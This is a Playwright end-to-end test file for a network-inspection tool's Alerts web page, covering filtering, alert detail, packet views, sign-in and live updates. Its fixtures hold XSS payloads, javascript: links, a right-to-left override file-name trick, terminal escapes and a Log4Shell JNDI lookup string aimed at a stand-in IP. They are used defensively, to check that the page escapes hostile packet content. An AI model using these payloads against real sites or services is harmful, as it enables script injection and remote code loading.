/**
 * The Alerts page in a real browser, as people use it, on the server that `dpi-agent ui` starts: on a journal, and on a
 * real Elasticsearch.
 */
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from '@jest/globals';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import type { Locator, Page } from 'playwright-core';
import { withKnown } from '../../agent/events/describe.ts';
import type { EeEvent } from '../../agent/events/event.ts';
import { packetFile } from '../../agent/evidence/place.ts';
import { namesOf, packetNamesOf } from '../../agent/ship/elasticsearch/template.ts';
import { passwordLine } from '../../agent/ui/passwords.ts';
import { alertEvent } from '../support/alerts.ts';
import { describeBrowser, openBrowser, type TestBrowser } from '../support/browser.ts';
import { describeElasticsearch, startElasticsearch } from '../support/elasticsearch.ts';
import { poll } from '../support/poll.ts';
import { startUi, type TestUi } from '../support/ui.ts';
import { alertsUntil, captureFile, deliverTo, makeJournal } from './support.ts';

const HOSTILE = '"><img src=x onerror="document.title=\'owned\'"><script>document.title="owned"</script>';
const now = Date.now();
const events = alertsUntil(now - 60_000, 150, 300_000);
const hostile = alertEvent(9000, now - 30_000, {
  event: { source_name: `${HOSTILE}\u202Egpj.exe`, dest_name: 'x\u200By' },
  record: {
    message: `${HOSTILE} \u001B[2J\u001B]0;owned\u0007`,
    classification: HOSTILE,
    links: ['javascript:document.title="owned"', 'data:text/html,<script>1</script>', 'https://example.com/?a="b'],
    references: [HOSTILE],
    outcome: '2xx',
    app: {
      protocol: 'http',
      http: { method: HOSTILE, host: HOSTILE, url: `/${HOSTILE}`, status: 200, response: { body: HOSTILE } },
    },
    cves: [HOSTILE],
    rule: 'alert tcp any any -> any any (msg:"x"; content:"<SCRIPT>", nocase; sid:1;)',
    payload: Buffer.from(`<script>document.title="owned"</script>\u001B[2J\r\n${HOSTILE}`).toString('base64'),
  },
});

const capture = captureFile(hostile, `GET /${HOSTILE} HTTP/1.1\r\n\r\n`, `HTTP/1.1 200 OK\r\n\r\n${HOSTILE}`);

interface Place {
  /** Of `dpi-agent ui`. */
  flags: string[];
  append(...more: (typeof events)[number][]): Promise<void>;
  /** What is stored with an alert. */
  mark(id: string): Promise<{ state: string; by: string }>;
  /** What the page says to find an alert with jq. */
  jq(id: string): string;
  close(): Promise<void>;
}

async function onJournal(): Promise<Place> {
  const journal = await makeJournal(...events, hostile);
  const { directory, marksFile } = journal;
  const { timestamp, event_id } = hostile.record;
  const file = join(directory, 'evidence', packetFile(timestamp.slice(0, 10), event_id));
  mkdirSync(dirname(file), { recursive: true });
  writeFileSync(file, capture);
  return {
    flags: ['--journal.directory', directory, '--ui.marksFile', marksFile],
    append: (...more) => journal.append(...more),
    mark: (id) => {
      const marks = readFileSync(marksFile, 'utf8').trim().split('\n');
      const last = marks.map((line) => JSON.parse(line) as { id: string; state: string; by: string });
      return Promise.resolve(last.findLast((mark) => mark.id === id) ?? { state: 'open', by: '' });
    },
    jq: (id) => `jq 'select(.record.event_id == "${id}")' '${directory}'/*.ndjson`,
    close: () => journal.remove(),
  };
}

async function onElasticsearch(): Promise<Place> {
  const server = await startElasticsearch();
  const cluster = 'page';
  const { index, alias } = namesOf(cluster);
  const append = async (...more: typeof events): Promise<void> => deliverTo(server.url, cluster, 'calico', more);
  await append(...events);
  const packets = { count: 10, complete: true } as EeEvent['record']['packets'];
  const known = withKnown(hostile, { packets });
  await deliverTo(server.url, cluster, 'calico', [known], async () => ({ content: capture, cut: false }));
  await server.refresh(index);
  await server.refresh(packetNamesOf(cluster).index);
  return {
    flags: ['--cluster', cluster, '--sinks.elasticsearch.nodes', server.url],
    append,
    async mark(id) {
      const source = (await server.documents(index)).get(id) as {
        dismissed?: boolean;
        record: { acknowledged?: boolean; handled_by: string };
      };
      const state =
        source.dismissed === true ? 'dismissed' : source.record.acknowledged === true ? 'acknowledged' : 'open';
      return { state, by: source.record.handled_by };
    },
    jq: (id) =>
      `curl -s -H 'Content-Type: application/json' '${server.url}/${alias}/_search' -d '{"query":{"ids":{"values":["${id}"]}}}' | jq '.hits.hits[]._source'`,
    close: () => server.stop(),
  };
}

describeBrowser(() => {
  describe('on a journal', () => describePage(onJournal));
  describeElasticsearch(() => describePage(onElasticsearch, '--ui.kibanaUrl', 'https://kibana.example.com/base/'));
});

function describePage(start: () => Promise<Place>, ...flags: string[]): void {
  let browser: TestBrowser;
  let place: Place;
  let directory: string;
  let ui: TestUi;
  let page: Page;
  /** What the browser complains about: scripts that were kept from running, too. */
  let complaints: string[];

  beforeAll(async () => {
    directory = mkdtempSync(join(tmpdir(), 'dpi-page-'));
    [browser, place] = await Promise.all([openBrowser(), start()]);
    ui = await startUi(...place.flags, '--stateDirectory', directory, ...flags);
  });
  afterAll(async () => {
    await ui?.stop();
    await browser?.close();
    await place?.close();
    rmSync(directory, { recursive: true, force: true });
  });
  beforeEach(async () => {
    page = await browser.context.newPage();
    complaints = [];
    page.on('console', (message) => {
      if (message.type() === 'error' || message.type() === 'warning') complaints.push(message.text());
    });
    page.on('pageerror', (error) => complaints.push(error.message));
  });
  afterEach(async () => {
    await page.close();
  });

  const rows = (): Locator => page.locator('.rows > li');
  const total = async (): Promise<string> =>
    (await page.locator('.numbers .number strong').first().textContent()) ?? '';
  const open = async (path = ''): Promise<void> => {
    await page.goto(`${ui.url}${path}`);
    await rows().first().waitFor();
  };
  /** Waits until the page says so many alerts. */
  const shows = (count: number): Promise<unknown> => poll(async () => (await total()) === count.toLocaleString('en'));
  const choice = (facet: string, name: string | RegExp): Locator =>
    page.getByRole('group', { name: facet }).getByRole('checkbox', { name });
  /** The browser tells of an address that changed a moment after what changed it. */
  const leadsTo = (part: string): Promise<unknown> => poll(() => page.url().includes(part));
  const current = (index: number): Promise<unknown> =>
    poll(async () => (await rows().nth(index).getAttribute('aria-current')) === 'true');
  /** Does what the page answers by a text that goes by itself after a while. */
  const answers = (text: Locator, act: () => Promise<unknown>): Promise<unknown> =>
    Promise.all([text.waitFor(), act()]);
  const note = (text: string): Locator => page.getByRole('status').getByText(text);

  test('the list is there, newest first, and nothing is complained about', async () => {
    await open();
    await shows(151);
    expect(await page.title()).toBe('Alerts · dpi-agent');
    const times = await rows()
      .locator('time')
      .evaluateAll((all) => all.map((time) => time.getAttribute('datetime') ?? ''));
    expect(times).toEqual(times.toSorted().toReversed());
    expect(times).toHaveLength(50);
    await rows().last().scrollIntoViewIfNeeded();
    await poll(async () => (await rows().count()) === 151);
    expect(complaints).toEqual([]);
  });

  describe('filters', () => {
    const namespaceOf = ({ origin }: { origin: string }): string => /^dpi\.([^/]+)/.exec(origin)?.[1] ?? '';
    const all = [...events, hostile];
    const count = (passes: (event: (typeof all)[number]) => boolean): number => all.filter(passes).length;

    test.each<[string, string, string | RegExp, number, string]>([
      [
        'namespace',
        'Namespace',
        /^payments/,
        count((event) => namespaceOf(event) === 'payments'),
        'namespace=payments',
      ],
      ['severity', 'Severity', /^Critical/, count(({ severity }) => severity === 100), 'level=critical'],
      [
        'tactic',
        'MITRE tactic',
        /^Command and Control/,
        count(({ mitre_tactic }) => mitre_tactic === 'TA0011'),
        'tactic=TA0011',
      ],
      [
        'signature',
        'Signature',
        /^SERVER-WEBAPP/,
        count(({ record }) => record.snort_signature_id === '1000104'),
        'signature=1%3A1000104',
      ],
      [
        'pod',
        'Pod',
        /^payments\/ledger-0/,
        count(({ source_name, dest_name }) => source_name === 'ledger-0' || dest_name === 'ledger-0'),
        'pod=payments%2Fledger-0',
      ],
      ['state', 'State', /^Open/, 151, 'state=open'],
    ])('by %s', async (_, facet, name, wanted, address) => {
      await open();
      await choice(facet, name).check();
      await leadsTo(address);
      await shows(wanted);
      // The address alone shows the same.
      await page.reload();
      await rows().first().waitFor();
      await shows(wanted);
      await poll(() => choice(facet, name).isChecked());
      await page.getByRole('button', { name: /^Remove filter/ }).click();
      await shows(151);
      await page.goBack();
      await shows(wanted);
    });

    test('by text, as it is typed', async () => {
      await open();
      await page.keyboard.press('/');
      await page.keyboard.type('cve-2021 log4j');
      await shows(count(({ record }) => record.snort_signature_id === '1000104'));
      await leadsTo('q=cve-2021');
    });

    test('by time, dragged over the histogram', async () => {
      await open();
      await shows(151);
      const area = page.locator('.histogram-area');
      const box = await area.boundingBox();
      if (box === null) throw new Error('the histogram is not there');
      await page.mouse.move(box.x + box.width * 0.25, box.y + 40);
      await page.mouse.down();
      await page.mouse.move(box.x + box.width * 0.75, box.y + 40, { steps: 5 });
      await page.mouse.up();
      await leadsTo('from=');
      const { searchParams } = new URL(page.url());
      const [from, to] = ['from', 'to'].map((name) => Date.parse(searchParams.get(name) ?? ''));
      const inside = count(({ record }) => {
        const time = Date.parse(record.timestamp);
        return time >= (from ?? 0) && time < (to ?? 0);
      });
      expect(inside).toBeGreaterThan(0);
      expect(inside).toBeLessThan(151);
      await shows(inside);
      await page.getByRole('button', { name: 'Reset time' }).click();
      await shows(151);
    });

    test('that nothing passes say so, and how to go on', async () => {
      await page.goto(`${ui.url}?q=nothing-has-this`);
      await page.getByRole('heading', { name: 'Nothing matches' }).waitFor();
      await page.getByRole('button', { name: 'Show all alerts' }).click();
      await shows(151);
    });

    test.each(['signature', 'pod'] as const)('groups by %s lead to their alerts', async (by) => {
      await open();
      await page.getByRole('button', { name: `By ${by}` }).click();
      const first = page.locator('.groups li button').first();
      const wanted = Number((await first.locator('.group-count strong').textContent())?.replaceAll(',', ''));
      await first.click();
      await rows().first().waitFor();
      await shows(wanted);
      await leadsTo(`${by}=`);
    });
  });

  describe('one alert', () => {
    const detail = (): Locator => page.locator('.detail');

    test('shows both ends, the rule, links that are safe, and the bytes as text and hex', async () => {
      const event = events.findLast(({ record }) => record.snort_signature_id === '1000104');
      await open(`?alert=${event?.record.event_id}`);
      await detail().getByText('Update Log4j to 2.17.1 or newer.', { exact: true }).waitFor();
      const text = await detail().innerText();
      for (const part of [
        event?.dest_name,
        event?.source_ip,
        '1:1000104:3',
        'Attempted Administrator',
        'Initial Access TA0001',
        'T1190',
      ])
        expect(text).toContain(part);
      expect(await detail().getByRole('link', { name: 'CVE-2021-44228', exact: true }).getAttribute('href')).toBe(
        'https://nvd.nist.gov/vuln/detail/CVE-2021-44228',
      );
      for (const link of await detail().locator('a[href^="https:"]').all())
        expect(await link.getAttribute('rel')).toContain('noopener');
      expect(await detail().locator('pre.payload').innerText()).toContain('${jndi:ldap://203.0.113.7:1389/a}\\r\\n');
      await detail().getByRole('button', { name: 'Hex' }).click();
      expect(await detail().locator('pre.payload-hex').innerText()).toMatch(
        /^0000 {2}47 45 54 20 2f 20 48 54 {2}54 50 2f 31 2e 31 0d 0a {2}GET \/ HTTP\/1\.1\.\.\n/,
      );
    });

    test('shows what its flow said, and is narrowed by it', async () => {
      const event = events.findLast(({ record }) => record.app?.http !== undefined);
      const { host = '', url = '', status = 0 } = event?.record.app?.http ?? {};
      await open(`?alert=${event?.record.event_id}`);
      const said = detail().locator('section', { has: page.getByRole('heading', { name: 'Protocol', exact: true }) });
      await said.waitFor();
      const text = await said.innerText();
      for (const part of [host, url, String(status)]) expect(text).toContain(part);
      await said.getByRole('button', { name: 'Filter by url, or copy it' }).click();
      await page.getByRole('button', { name: 'Only this' }).and(page.locator(':visible')).click();
      await leadsTo('q=');
      expect(new URL(page.url()).searchParams.get('q')).toContain('url:');
    });

    test('can be copied: as JSON, for jq and for curl', async () => {
      const [event] = events.slice(-1);
      await browser.context.grantPermissions(['clipboard-read', 'clipboard-write']);
      await open(`?alert=${event?.record.event_id}`);
      const copied = async (name: string): Promise<string> => {
        await answers(detail().getByRole('button', { name: 'Copied' }), () =>
          detail().getByRole('button', { name }).click(),
        );
        const text = await page.evaluate(() => navigator.clipboard.readText());
        await detail().getByRole('button', { name }).waitFor();
        return text;
      };
      expect(JSON.parse(await copied('Copy JSON'))).toEqual(event);
      expect(await copied('jq')).toBe(place.jq(event?.record.event_id ?? ''));
      const [, url = ''] = /^curl -s '(.*)'$/.exec(await copied('curl')) ?? [];
      expect(await (await fetch(url)).json()).toMatchObject({ event });
    });

    test('nothing of a packet becomes a part of the page; what would not be seen is shown', async () => {
      await open(`?alert=${hostile.record.event_id}&range=all`);
      await detail().locator('pre.payload').waitFor();
      await detail().getByText('Show it').click();
      await detail().locator('pre.document').waitFor();
      expect(await page.title()).toBe('Alerts · dpi-agent');
      expect(await page.locator('img:not([src="/icon.svg"]), script:not([src]), [onerror]').count()).toBe(0);
      const text = await detail().innerText();
      expect(text).toContain('<img src=x onerror=');
      expect(text).toContain('U+202E');
      expect(text).toContain('U+200B');
      expect(text).toContain('ESC');
      for (const hidden of ['\u001B', '\u202E', '\u200B']) expect(text).not.toContain(hidden);
      const links = await detail()
        .getByRole('link')
        .evaluateAll((all) => all.map((link) => link.getAttribute('href')));
      const own = `/api/alerts/${hostile.record.event_id}/pcap`;
      // To alerts around it, and its packets.
      const inside = links.filter((link) => link?.startsWith('https://') !== true);
      expect(inside.filter((link) => !/^\?alert=[0-9a-f]{40}$/.test(link ?? ''))).toEqual([own]);
      expect(links).toContain('https://example.com/?a=%22b');
      // The list and the facets have it too.
      expect(await page.locator('.rows').innerText()).toContain('<img src=x onerror=');
      expect(complaints).toEqual([]);
    });

    test('shows its packets: a list, and what was said, with the bytes marked that fired; nothing of it becomes a part', async () => {
      await open(`?alert=${hostile.record.event_id}&range=all`);
      const packets = detail().locator('section', { has: page.getByRole('heading', { name: 'Packets', exact: true }) });
      await packets.getByRole('button', { name: 'Show them' }).click();
      await packets.getByRole('row').nth(1).waitFor();
      expect(await packets.locator('tbody tr').allInnerTexts()).toEqual([
        expect.stringMatching(/→ TCP SYN\s/),
        expect.stringMatching(/← TCP SYN,ACK\s/),
        expect.stringMatching(/→ TCP ACK\s/),
        expect.stringMatching(/→ TCP PSH,ACK\s+alert\s/),
        ...Array<unknown>(6).fill(expect.not.stringContaining('alert')),
      ]);
      await packets.getByRole('button', { name: 'Text' }).click();
      expect(await packets.locator('.said mark').allInnerTexts()).toEqual(['<script>']);
      expect(await packets.locator('.said', { has: page.locator('mark') }).innerText()).toMatch(/alert\s+GET \/">/);
      expect(await packets.locator('.said.from-destination pre').innerText()).toContain('HTTP/1.1 200 OK');
      await packets.getByRole('button', { name: 'Hex' }).click();
      // Bytes and their characters, over two lines.
      const marks = (await packets.locator('.said mark').allInnerTexts()).map((text) => text.replaceAll(/\s+/g, ' '));
      expect(marks.filter((text) => /^[0-9a-f]{2}( [0-9a-f]{2})*$/.test(text)).join(' ')).toBe(
        Buffer.from('<script>')
          .toString('hex')
          .replaceAll(/(..)(?!$)/g, '$1 '),
      );
      const link = await packets.getByRole('link', { name: 'Download pcapng' }).getAttribute('href');
      const file = Buffer.from(await (await fetch(new URL(link ?? '', ui.url))).arrayBuffer());
      expect(file.equals(capture)).toBe(true);
      expect(await page.title()).toBe('Alerts · dpi-agent');
      expect(complaints).toEqual([]);
    });

    test('is acknowledged and dismissed, for good, and the list follows', async () => {
      const event = events.findLast(({ severity }) => severity === 80);
      const id = event?.record.event_id;
      await open(`?alert=${id}`);
      await detail().getByRole('button', { name: 'Acknowledge' }).click();
      await detail().getByText('Acknowledged', { exact: true }).waitFor();
      await page.locator(`[data-id="${id}"] .state-acknowledged`).waitFor();
      await page.reload();
      await detail()
        .getByText(/^Acknowledged by local/)
        .waitFor();
      await detail().getByRole('button', { name: 'Dismiss', exact: true }).click();
      await shows(150);
      expect(await place.mark(id ?? '')).toMatchObject({ state: 'dismissed', by: 'local' });
      await page.goto(`${ui.url}?state=dismissed`);
      await page.locator(`[data-id="${id}"]`).waitFor();
      await shows(1);
      await page.locator(`[data-id="${id}"] a`).click();
      await answers(note('Alert: open'), () => detail().getByRole('button', { name: 'Open again' }).click());
      await page.goto(ui.url);
      await shows(151);
    });
  });

  test('the keyboard does it all: move, open, choose, acknowledge, help, close', async () => {
    await open();
    await page.keyboard.press('j');
    await page.keyboard.press('j');
    await current(1);
    await page.keyboard.press('k');
    await current(0);
    await page.keyboard.press('Enter');
    // The focus moves just after the detail is drawn.
    await page.locator('#detail-title:focus').waitFor();
    await page.keyboard.press('j');
    await leadsTo((await rows().nth(1).getAttribute('data-id')) ?? 'no id');
    await page.keyboard.press('Escape');
    await page.locator('.detail').waitFor({ state: 'detached' });
    await page.keyboard.press('?');
    await page.getByRole('dialog', { name: 'Keyboard' }).waitFor();
    await page.keyboard.press('Escape');
    await page.getByRole('dialog').waitFor({ state: 'hidden' });
    await page.keyboard.press('x');
    await page.getByText('1 chosen').waitFor();
    await answers(note('Alert: acknowledged'), () => page.keyboard.press('a'));
    await answers(note('Alert: open'), () => page.keyboard.press('o'));
  });

  if (start === onElasticsearch) {
    test('an alert leads to Kibana, to what is around its time', async () => {
      const event = events.at(-1);
      await open(`?alert=${event?.record.event_id}`);
      const link = await page.locator('.detail').getByRole('link', { name: 'Kibana' }).getAttribute('href');
      const { origin, pathname, hash } = new URL(link ?? '');
      expect(`${origin}${pathname}`).toBe('https://kibana.example.com/base/app/discover');
      const state = new URLSearchParams(hash.slice(hash.indexOf('?')));
      expect(state.get('_a')).toContain(`query:'record.event_id:"${event?.record.event_id}"'`);
      const time = Date.parse(event?.record.timestamp ?? '');
      const [from, to] = [time - 3_600_000, time + 3_600_000].map((millis) => new Date(millis).toISOString());
      expect(state.get('_g')).toBe(`(time:(from:'${from}',to:'${to}'))`);
    });
  } else {
    // What does not depend on where the alerts are.
    test('every control has a name', async () => {
      await open(`?alert=${events.at(-1)?.record.event_id}`);
      await page.locator('.detail pre.payload').waitFor();
      const nameless = await page.locator('button, a[href], input, select').evaluateAll((all) =>
        all
          .filter((element) => {
            const { ariaLabel, textContent, title } = element as HTMLElement;
            const labels = 'labels' in element ? ((element as HTMLInputElement).labels?.length ?? 0) : 0;
            return !ariaLabel && !textContent?.trim() && !title && labels === 0;
          })
          .map(({ outerHTML }) => outerHTML),
      );
      expect(nameless).toEqual([]);
    });

    test.each([
      ['light', 380],
      ['dark', 380],
      ['light', 1440],
      ['dark', 1440],
    ] as const)(
      '%s colours at %d px: nothing is wider than the window, and texts can be read',
      async (colorScheme, width) => {
        await page.setViewportSize({ width, height: 800 });
        await page.emulateMedia({ colorScheme });
        for (const path of ['', `?alert=${hostile.record.event_id}`, '?group=signature', '?page=coverage']) {
          await page.goto(`${ui.url}${path}`);
          await page.locator('.rows > li, .groups li, .page .empty, .page .card').first().waitFor();
          expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(width);
        }
        await open();
        const contrast = await rows().evaluateAll((all) => {
          const numbers = (colour: string): number[] => (colour.match(/[\d.]+/g) ?? []).slice(0, 3).map(Number);
          const light = (colour: string): number =>
            numbers(colour)
              .map((value) => value / 255)
              .map((value) => (value <= 0.03928 ? value / 12.92 : ((value + 0.055) / 1.055) ** 2.4))
              .reduce((sum, value, index) => sum + value * ([0.2126, 0.7152, 0.0722][index] ?? 0), 0);
          return all.flatMap((row) => {
            const ground = light(getComputedStyle(row.closest('.card') ?? row).backgroundColor);
            return [...row.querySelectorAll('a, time, .level, .end-name, .end-address')].map((element) => {
              const text = light(getComputedStyle(element).color);
              return (Math.max(text, ground) + 0.05) / (Math.min(text, ground) + 0.05);
            });
          });
        });
        // WCAG 2.2, level AA.
        expect(Math.min(...contrast)).toBeGreaterThanOrEqual(4.5);
        if (width === 380) {
          await page.getByRole('button', { name: /^Filters/ }).click();
          await choice('Severity', /^Critical/).check();
          await page.getByRole('button', { name: 'Close filters' }).click();
          await page.getByRole('button', { name: 'Filters (1)' }).waitFor();
        }
      },
    );

    test('colours can be chosen, and stay', async () => {
      await open();
      await page.getByRole('button', { name: 'Colours: as the system' }).click();
      await page.getByRole('button', { name: 'Colours: light' }).click();
      await page.getByRole('button', { name: 'Colours: dark' }).waitFor();
      await page.reload();
      await rows().first().waitFor();
      expect(await page.locator('html').getAttribute('data-theme')).toBe('dark');
      await page.getByRole('button', { name: 'Colours: dark' }).click();
    });

    test('a server that goes away is named, and the page goes on when it is back', async () => {
      await open();
      await page.route('**/api/**', (route) => route.abort());
      await choice('Severity', /^Critical/).check();
      await page.getByRole('alert').getByText('does not answer').waitFor();
      // Those of before are not what was asked for.
      expect(await rows().count()).toBe(0);
      await page.unroute('**/api/**');
      await rows().first().waitFor();
      expect(await page.getByRole('alert').count()).toBe(0);
    });

    test('a list that can’t be loaded is no empty list, and neither is its rest', async () => {
      await open();
      await page.route('**/api/alerts?**', (route) => route.abort());
      await rows().last().scrollIntoViewIfNeeded();
      await page.getByRole('alert').getByText('does not answer').waitFor();
      expect(await rows().count()).toBe(50);
      await page.reload();
      await page.getByRole('alert').getByText('does not answer').waitFor();
      expect(await page.getByText('No alerts').count()).toBe(0);
      await page.unroute('**/api/alerts?**');
      await rows().first().waitFor();
      await rows().last().scrollIntoViewIfNeeded();
      await poll(async () => (await rows().count()) === 151);
    });

    test('without a password nothing is shown; with one all of it, until signing out', async () => {
      const file = join(directory, 'users');
      writeFileSync(file, `${await passwordLine('anna', 'correct horse battery')}\n`);
      const closed = await startUi(...place.flags, '--stateDirectory', directory, '--ui.passwordFile', file);
      try {
        await page.goto(closed.url);
        await page.getByRole('heading', { name: 'Sign in to dpi-agent' }).waitFor();
        expect(await page.content()).not.toContain(events[0]?.dest_name);
        await page.getByLabel('User').fill('anna');
        await page.getByLabel('Password').fill('wrong');
        await page.getByRole('button', { name: 'Sign in' }).click();
        await page.getByRole('alert').getByText('wrong user or password').waitFor();
        await page.getByLabel('Password').fill('correct horse battery');
        await page.getByRole('button', { name: 'Sign in' }).click();
        await rows().first().waitFor();
        expect(await page.evaluate(() => document.cookie)).toBe('');
        await page.getByRole('button', { name: /Sign out/ }).click();
        await page.getByRole('heading', { name: 'Sign in to dpi-agent' }).waitFor();
        expect(await rows().count()).toBe(0);
      } finally {
        await closed.stop();
      }
    });
  }

  test('new alerts appear without a reload, whenever they come', async () => {
    const path = '?namespace=ci&level=critical&range=all';
    await open(path);
    const before = await rows().count();
    let number = 20_000;
    const next = (passes: boolean): ReturnType<typeof alertEvent> => {
      for (;;) {
        const event = alertEvent(number++, Date.now());
        if ((event.origin.startsWith('dpi.ci/') && event.severity === 100) === passes) return event;
      }
    };
    // One while the page is loaded, and one when it follows.
    const early = next(true);
    await Promise.all([page.reload(), place.append(next(false), early)]);
    await page.locator(`[data-id="${early.record.event_id}"]`).waitFor();
    await page.locator('.live-on').waitFor();
    const fresh = next(true);
    await place.append(next(false), fresh);
    await page.locator(`.fresh[data-id="${fresh.record.event_id}"]`).waitFor();
    await shows(before + 2);
    await page.getByRole('button', { name: 'Live' }).click();
    await page.getByRole('button', { name: 'Paused' }).waitFor();
    const later = next(true);
    await place.append(later);
    expect(await rows().count()).toBe(before + 2);
    // What is asked for, is there, as soon as Elasticsearch has it.
    await poll(async () => {
      await page.reload();
      await rows().first().waitFor();
      return (await page.locator(`[data-id="${later.record.event_id}"]`).count()) === 1;
    });
  });
}
